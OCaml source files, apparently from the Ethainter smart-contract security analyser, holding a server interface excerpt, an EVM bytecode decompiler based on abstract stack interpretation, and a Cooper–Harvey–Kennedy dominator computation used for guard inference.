    {!Proto.req_health}, inline on reader threads, never load-shed. *)

val stats_snapshot : t -> Proto.stats
(** The stats endpoint's payload: the serving layer's own counters —
    queue ([queue_*], from the pool), request counters ([served_*]),
    latency quantiles ([latency_p50_ms]/[latency_p99_ms]/...),
    [uptime_s] — followed by the full
    {!Ethainter_core.Telemetry} surface ([cache_fe_*]/[cache_be_*],
    [intern_*], [datalog_*], [scheduler_retries], and every registered
    source — in [--watch] mode the index's [index_*] counters). Every
    value is read from an [Atomic] or under the owning mutex — a
    snapshot during concurrent serving is coherent per counter. *)

val request_stop : t -> unit
(** Set the stop flag and wake the accept loop (via a self-pipe byte,
    so the wake-up is portable, not Linux-specific). Takes no locks
    and joins nothing — this is the only stop entry point safe to
    call from a signal handler, where {!stop}'s mutex acquisition
    could self-deadlock against the interrupted thread. Idempotent. *)

val stop : t -> unit
(** {!request_stop}, then drain queued jobs and join the pool.
    Connections already being read terminate on their next frame
    (reader threads observe the stopped flag). Call from a regular
    thread — typically the main thread after the serve loop returns —
    never from a signal handler. Idempotent. *)

val stopped : t -> bool
