(** Decompiler: EVM bytecode → {!Tac.program}.

    The EVM exposes no explicit control flow — jump targets are stack
    values — so the decompiler runs an abstract interpretation of the
    operand stack (the approach of Vandal and Gigahorse):

    1. split the code into basic blocks at [JUMPDEST]s and after
       terminators;
    2. interpret each block over a stack of symbolic variables,
       creating a fresh definition per value-producing opcode and
       recording possible constant values (from [PUSH], and through
       [AND]/[ADD]/etc. when all operands are constant);
    3. resolve [JUMP]/[JUMPI] targets from the constant *sets* of the
       target variable — a phi of several return addresses yields edges
       to every possible return site, which resolves the
       multiple-caller pattern without full context sensitivity;
    4. merge entry stacks at block joins into phi variables and iterate
       to a fixpoint.

    Scratch-space hashing is tracked: a [SHA3] whose memory operands
    were filled by [MSTORE]s at constant offsets within the same block
    records the hashed variables ([s_sha3_args]) — this feeds the
    paper's sender-keyed data-structure rules (Fig. 4). *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
module B = Ethainter_evm.Bytecode
module P = Ethainter_evm.Program
module Deadline = Ethainter_runtime.Deadline
open Tac

(* Maximum size of a constant set before it degrades to "unknown". *)
let max_const_set = 64

(* Limit on fixpoint iterations (defensive; real contracts converge in
   a handful of passes). *)
let max_passes = 60

type blockinfo = {
  entry : int;
  instrs : B.instr list; (* instructions of this block, in order *)
  mutable in_stack : var list; (* canonical entry stack, top first *)
  mutable in_depth_known : int; (* length of the known prefix *)
  mutable visited : bool;
  mutable orphan : bool;
      (* decompiled speculatively: a JUMPDEST block with no discovered
         in-edge (e.g. a never-called private function). Gigahorse
         decompiles these too; Experiment 1's "no public entry point"
         cases are exactly vulnerabilities flagged in orphan code. *)
}

(* The block partition now comes from the shared pre-decoded
   {!Ethainter_evm.Program}: its boundary rule (instruction 0, every
   JUMPDEST, the instruction after every terminator) is exactly the one
   this module used to re-derive per decompilation, so slicing the
   program's block table yields the same partition — and a decompile of
   code the interpreter has already run costs zero decodes. *)
let split_blocks (p : P.t) : (int, blockinfo) Hashtbl.t =
  let tbl = Hashtbl.create 64 in
  Array.iter
    (fun (b : P.block) ->
      if b.P.bb_len > 0 then begin
        let instrs = P.block_instrs p b in
        let entry = (List.hd instrs).B.pc in
        Hashtbl.replace tbl entry
          { entry; instrs; in_stack = []; in_depth_known = 0;
            visited = false; orphan = false }
      end)
    p.P.blocks;
  tbl

(** Decompile a pre-decoded program into a TAC program. *)
let decompile_program (prog : P.t) : program =
  let binfos = split_blocks prog in
  let consts : (var, U.t list) Hashtbl.t = Hashtbl.create 256 in
  let phi_args : (var, VarSet.t) Hashtbl.t = Hashtbl.create 64 in
  let block_stmts : (int, stmt list) Hashtbl.t = Hashtbl.create 64 in
  let block_succs : (int, int list) Hashtbl.t = Hashtbl.create 64 in
  let changed = ref true in
  let const_get v = match Hashtbl.find_opt consts v with Some l -> l | None -> [] in
  let const_add v cs =
    if cs = [] then ()
    else begin
      let old = const_get v in
      let merged =
        List.fold_left
          (fun acc c -> if List.exists (U.equal c) acc then acc else c :: acc)
          old cs
      in
      let merged =
        if List.length merged > max_const_set then [] (* degrade: unknown *)
        else merged
      in
      if List.length merged <> List.length old then begin
        Hashtbl.replace consts v merged;
        changed := true
      end
    end
  in
  (* --- entry stack merging --- *)
  let merge_into (bi : blockinfo) (incoming : var list) =
    if not bi.visited then begin
      bi.visited <- true;
      bi.in_stack <- incoming;
      bi.in_depth_known <- List.length incoming;
      changed := true
    end
    else begin
      let depth = min bi.in_depth_known (List.length incoming) in
      if depth < bi.in_depth_known then begin
        bi.in_stack <-
          (let rec take n = function
             | [] -> []
             | _ when n = 0 -> []
             | x :: r -> x :: take (n - 1) r
           in
           take depth bi.in_stack);
        bi.in_depth_known <- depth;
        changed := true
      end;
      (* unify position-wise *)
      bi.in_stack <-
        List.mapi
          (fun i cur ->
            let inc = List.nth incoming i in
            if cur = inc then cur
            else begin
              let pv = Vphi (bi.entry, i) in
              let args =
                match Hashtbl.find_opt phi_args pv with
                | Some s -> s
                | None -> VarSet.empty
              in
              let args' =
                VarSet.add inc
                  (if cur = pv then args else VarSet.add cur args)
              in
              if
                not
                  (Hashtbl.mem phi_args pv
                  && VarSet.equal args'
                       (Hashtbl.find phi_args pv))
              then begin
                Hashtbl.replace phi_args pv args';
                changed := true
              end;
              (* propagate constant sets through the phi *)
              VarSet.iter (fun a -> const_add pv (const_get a)) args';
              pv
            end)
          bi.in_stack
    end
  in
  (* --- per-block abstract execution --- *)
  let process_block (bi : blockinfo) =
    let stack = ref bi.in_stack in
    let unk_counter = ref 0 in
    let stmts = ref [] in
    (* local scratch-memory model: const offset -> var stored there *)
    let mem : (int, var) Hashtbl.t = Hashtbl.create 8 in
    let succs = ref [] in
    let push v = stack := v :: !stack in
    let pop () =
      match !stack with
      | v :: rest ->
          stack := rest;
          v
      | [] ->
          let v = Vunk (bi.entry, !unk_counter) in
          incr unk_counter;
          v
    in
    let popn n = List.init n (fun _ -> pop ()) in
    let add_stmt ?(sha3 = None) pc op args res =
      stmts :=
        { s_pc = pc; s_block = bi.entry; s_op = op; s_args = args;
          s_res = res; s_sha3_args = sha3 }
        :: !stmts
    in
    let falls = ref true in
    List.iter
      (fun (i : B.instr) ->
        (* the worklist re-interprets blocks until fixpoint; this is
           the unbounded inner loop the deadline must be able to cut *)
        Deadline.poll ();
        let pc = i.B.pc in
        match i.B.op with
        | Op.PUSH _ ->
            let v = Vdef pc in
            let c = match i.B.imm with Some c -> c | None -> U.zero in
            add_stmt pc (TConst c) [] (Some v);
            const_add v [ c ];
            push v
        | Op.DUP n ->
            let rec nth l k =
              match (l, k) with
              | x :: _, 1 -> Some x
              | _ :: r, k -> nth r (k - 1)
              | [], _ -> None
            in
            let v =
              match nth !stack n with
              | Some v -> v
              | None ->
                  (* duplicate an unknown below the known prefix: pop
                     down is wrong; just materialize an unknown *)
                  let v = Vunk (bi.entry, !unk_counter) in
                  incr unk_counter;
                  v
            in
            push v
        | Op.SWAP n ->
            let needed = n + 1 in
            let rec grow () =
              if List.length !stack < needed then begin
                (* extend with unknowns at the bottom *)
                stack :=
                  !stack
                  @ [ (let v = Vunk (bi.entry, !unk_counter) in
                       incr unk_counter;
                       v) ];
                grow ()
              end
            in
            grow ();
            let arr = Array.of_list !stack in
            let tmp = arr.(0) in
            arr.(0) <- arr.(n);
            arr.(n) <- tmp;
            stack := Array.to_list arr
        | Op.POP -> ignore (pop ())
        | Op.JUMPDEST -> ()
        | Op.PC ->
            let v = Vdef pc in
            add_stmt pc (TConst (U.of_int pc)) [] (Some v);
            const_add v [ U.of_int pc ];
            push v
        | Op.JUMP ->
            let t = pop () in
            add_stmt pc (TOp Op.JUMP) [ t ] None;
            List.iter
              (fun c ->
                match U.to_int_opt c with
                | Some d when Hashtbl.mem binfos d ->
                    if not (List.mem d !succs) then succs := d :: !succs
                | _ -> ())
              (const_get t);
            falls := false
        | Op.JUMPI ->
            let t = pop () in
            let c = pop () in
            add_stmt pc (TOp Op.JUMPI) [ t; c ] None;
            List.iter
              (fun cv ->
                match U.to_int_opt cv with
                | Some d when Hashtbl.mem binfos d ->
                    if not (List.mem d !succs) then succs := d :: !succs
                | _ -> ())
              (const_get t)
        | Op.MSTORE ->
            let off = pop () in
            let v = pop () in
            add_stmt pc (TOp Op.MSTORE) [ off; v ] None;
            (match
               List.filter_map U.to_int_opt (const_get off)
             with
            | [ o ] when o land 31 = 0 && o < 0x2000 ->
                Hashtbl.replace mem o v
            | _ -> ())
        | Op.SHA3 ->
            let off = pop () in
            let len = pop () in
            let res = Vdef pc in
            (* resolve hashed memory words when offsets are constant *)
            let sha3 =
              match
                ( List.filter_map U.to_int_opt (const_get off),
                  List.filter_map U.to_int_opt (const_get len) )
              with
              | [ o ], [ l ] when l mod 32 = 0 && l / 32 <= 4 ->
                  let words = l / 32 in
                  let rec gather k acc =
                    if k = words then Some (List.rev acc)
                    else
                      match Hashtbl.find_opt mem (o + (32 * k)) with
                      | Some v -> gather (k + 1) (v :: acc)
                      | None -> None
                  in
                  gather 0 []
              | _ -> None
            in
            add_stmt ~sha3 pc (TOp Op.SHA3) [ off; len ] (Some res);
            push res
        | op ->
            let npop, npush = Op.stack_arity op in
            let args = popn npop in
            let res = if npush > 0 then Some (Vdef pc) else None in
            add_stmt pc (TOp op) args res;
            (match res with Some v -> push v | None -> ());
            (* constant folding for a few operations that matter for
               jump-target and storage-slot resolution *)
            (match (op, args, res) with
            | (Op.ADD | Op.SUB | Op.AND | Op.OR | Op.SHL | Op.SHR | Op.EXP),
              [ a; b ], Some r ->
                let ca = const_get a and cb = const_get b in
                if ca <> [] && cb <> [] && List.length ca * List.length cb <= 16
                then
                  let f x y =
                    match op with
                    | Op.ADD -> U.add x y
                    | Op.SUB -> U.sub x y
                    | Op.AND -> U.logand x y
                    | Op.OR -> U.logor x y
                    | Op.EXP -> U.exp x y
                    | Op.SHL ->
                        if U.fits_int x then U.shift_left y (U.to_int x)
                        else U.zero
                    | Op.SHR ->
                        if U.fits_int x then U.shift_right y (U.to_int x)
                        else U.zero
                    | _ -> assert false
                  in
                  const_add r
                    (List.concat_map (fun x -> List.map (f x) cb) ca)
            | _ -> ());
            if Op.is_block_terminator op then falls := false)
      bi.instrs;
    (* fallthrough successor *)
    (if !falls then
       let last = List.rev bi.instrs in
       match last with
       | i :: _ ->
           let next = i.B.pc + 1 + Op.immediate_size i.B.op in
           if Hashtbl.mem binfos next && not (List.mem next !succs) then
             succs := next :: !succs
       | [] -> ());
    (* JUMPI fallthrough *)
    (match List.rev bi.instrs with
    | i :: _ when i.B.op = Op.JUMPI ->
        let next = i.B.pc + 1 + Op.immediate_size i.B.op in
        if Hashtbl.mem binfos next && not (List.mem next !succs) then
          succs := next :: !succs
    | _ -> ());
    Hashtbl.replace block_stmts bi.entry (List.rev !stmts);
    (let old = Hashtbl.find_opt block_succs bi.entry in
     let news = List.sort compare !succs in
     if old <> Some news then begin
       Hashtbl.replace block_succs bi.entry news;
       changed := true
     end);
    (!succs, !stack)
  in
  (* --- fixpoint --- *)
  (match Hashtbl.find_opt binfos 0 with
  | Some b0 ->
      b0.visited <- true;
      b0.in_stack <- []
  | None -> ());
  let pass = ref 0 in
  while !changed && !pass < max_passes do
    Deadline.poll ();
    changed := false;
    incr pass;
    (* process blocks in entry order for determinism *)
    let entries =
      Hashtbl.fold (fun e bi acc -> (e, bi) :: acc) binfos []
      |> List.sort compare
    in
    List.iter
      (fun (_, bi) ->
        if bi.visited then begin
          let succs, out_stack = process_block bi in
          List.iter
            (fun s ->
              match Hashtbl.find_opt binfos s with
              | Some sb -> merge_into sb out_stack
              | None -> ())
            succs
        end)
      entries
  done;
  (* --- orphan recovery ---
     JUMPDEST blocks never reached from the entry (e.g. private
     functions with no call site) are decompiled speculatively with an
     empty entry stack. Merges out of orphan blocks only flow into
     other unvisited blocks, so the precision of the main flow is
     unaffected. *)
  let orphan_entries =
    Hashtbl.fold
      (fun e bi acc ->
        match bi.instrs with
        | { B.op = Op.JUMPDEST; _ } :: _ when not bi.visited -> (e, bi) :: acc
        | _ -> acc)
      binfos []
    |> List.sort compare
  in
  List.iter
    (fun (_, bi) ->
      bi.visited <- true;
      bi.orphan <- true;
      bi.in_stack <- [];
      bi.in_depth_known <- 0)
    orphan_entries;
  if orphan_entries <> [] then begin
    changed := true;
    pass := 0;
    while !changed && !pass < max_passes do
      Deadline.poll ();
      changed := false;
      incr pass;
      let entries =
        Hashtbl.fold
          (fun e bi acc -> if bi.orphan then (e, bi) :: acc else acc)
          binfos []
        |> List.sort compare
      in
      List.iter
        (fun (_, bi) ->
          let succs, out_stack = process_block bi in
          List.iter
            (fun s ->
              match Hashtbl.find_opt binfos s with
              | Some sb when (not sb.visited) || sb.orphan ->
                  if not sb.visited then begin
                    sb.orphan <- true
                  end;
                  merge_into sb out_stack
              | _ -> ())
            succs)
        entries
    done
  end;
  (* --- assemble program --- *)
  let p_blocks = Hashtbl.create 64 in
  let preds : (int, int list) Hashtbl.t = Hashtbl.create 64 in
  Hashtbl.iter
    (fun e succs ->
      List.iter
        (fun s ->
          let cur = match Hashtbl.find_opt preds s with Some l -> l | None -> [] in
          Hashtbl.replace preds s (e :: cur))
        succs)
    block_succs;
  Hashtbl.iter
    (fun e (bi : blockinfo) ->
      if bi.visited then
        let stmts =
          match Hashtbl.find_opt block_stmts e with Some s -> s | None -> []
        in
        let succs =
          match Hashtbl.find_opt block_succs e with Some s -> s | None -> []
        in
        let preds =
          match Hashtbl.find_opt preds e with Some s -> s | None -> []
        in
        Hashtbl.replace p_blocks e
          { b_entry = e; b_stmts = stmts; b_succs = succs; b_preds = preds })
    binfos;
  let p_def = Hashtbl.create 256 in
  Hashtbl.iter
    (fun _ b ->
      List.iter
        (fun s ->
          match s.s_res with Some v -> Hashtbl.replace p_def v s | None -> ())
        b.b_stmts)
    p_blocks;
  (* phi pseudo-statements so every var has a def *)
  Hashtbl.iter
    (fun v args ->
      match v with
      | Vphi (b, _) ->
          if not (Hashtbl.mem p_def v) then
            Hashtbl.replace p_def v
              { s_pc = b; s_block = b; s_op = TPhi;
                s_args = VarSet.elements args; s_res = Some v;
                s_sha3_args = None }
      | _ -> ())
    phi_args;
  let p_orphans = Hashtbl.create 8 in
  Hashtbl.iter
    (fun e (bi : blockinfo) ->
      if bi.orphan then Hashtbl.replace p_orphans e ())
    binfos;
  { p_blocks; p_entry = 0; p_def; p_consts = consts; p_phi_args = phi_args;
    p_orphans; p_code_size = String.length prog.P.code }

(** Decompile [code] (runtime bytecode) into a TAC program. Goes
    through the process-wide program cache: repeated decompiles of the
    same bytecode — or a decompile of code the interpreter already ran
    — decode it only once. *)
let decompile (code : string) : program = decompile_program (P.of_code code)
