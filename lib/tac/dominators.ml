(** Dominator computation over the TAC control-flow graph.

    Guard inference needs dominance: a [JUMPI] condition protects
    exactly the statements that can only execute after taking a
    particular branch, i.e. the blocks dominated by that branch target
    (§4.5: "if a check dominates a use of a tainted variable, it is
    considered a guard for that variable").

    Cooper–Harvey–Kennedy iterative algorithm over a reverse-postorder
    numbering. *)

open Tac

type t = {
  idom : (int, int) Hashtbl.t;      (** immediate dominator (entry maps to itself) *)
  rpo : int array;                  (** blocks in reverse postorder *)
}

let compute (p : program) : t =
  (* reverse postorder from entry *)
  let visited = Hashtbl.create 64 in
  let order = ref [] in
  let rec dfs e =
    if not (Hashtbl.mem visited e) then begin
      Hashtbl.replace visited e ();
      (match block p e with
      | Some b -> List.iter dfs b.b_succs
      | None -> ());
      order := e :: !order
    end
  in
  dfs p.p_entry;
  let rpo = Array.of_list !order in
  let index = Hashtbl.create 64 in
  Array.iteri (fun i e -> Hashtbl.replace index e i) rpo;
  let idom = Hashtbl.create 64 in
  Hashtbl.replace idom p.p_entry p.p_entry;
  let intersect a b =
    (* walk up the idom tree by rpo index *)
    let rec go a b =
      if a = b then a
      else
        let ia = Hashtbl.find index a and ib = Hashtbl.find index b in
        if ia > ib then go (Hashtbl.find idom a) b
        else go a (Hashtbl.find idom b)
    in
    go a b
  in
  let changed = ref true in
  while !changed do
    changed := false;
    Array.iter
      (fun e ->
        (* iterative dataflow over every block, repeated to fixpoint —
           unbounded on adversarial CFGs without the deadline *)
        Ethainter_runtime.Deadline.poll ();
        if e <> p.p_entry then
          match block p e with
          | None -> ()
          | Some b ->
              let processed_preds =
                List.filter
                  (fun q -> Hashtbl.mem idom q && Hashtbl.mem index q)
                  b.b_preds
              in
              (match processed_preds with
              | [] -> ()
              | first :: rest ->
                  let nd = List.fold_left intersect first rest in
                  if Hashtbl.find_opt idom e <> Some nd then begin
                    Hashtbl.replace idom e nd;
                    changed := true
                  end))
      rpo
  done;
  { idom; rpo }

(** [dominates t a b]: does block [a] dominate block [b]? *)
let dominates (t : t) (a : int) (b : int) : bool =
  let rec walk x =
    if x = a then true
    else
      match Hashtbl.find_opt t.idom x with
      | None -> false
      | Some d -> if d = x then x = a else walk d
  in
  walk b

(** All blocks dominated by [a] (including [a] itself), among blocks
    reachable from the entry. *)
let dominated_by (t : t) (a : int) : int list =
  Array.to_list t.rpo
  |> List.filter (fun b ->
         (* a walk up the idom tree per block: quadratic in deep CFGs *)
         Ethainter_runtime.Deadline.poll ();
         dominates t a b)
